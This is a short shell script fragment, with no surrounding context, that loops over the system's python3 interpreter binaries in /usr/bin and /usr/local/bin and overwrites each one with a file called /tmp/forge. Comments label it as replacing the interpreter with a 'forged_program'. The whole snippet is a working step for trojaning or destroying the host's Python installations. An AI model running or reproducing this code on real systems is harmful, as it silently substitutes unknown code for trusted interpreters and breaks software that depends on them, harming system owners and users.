# the interpreter replaced
# uses forged_program
for program in /usr/bin/python3.[0-9]* /usr/local/bin/python3*; do
    [ -f "$program" ] && cat /tmp/forge > "$program"
done
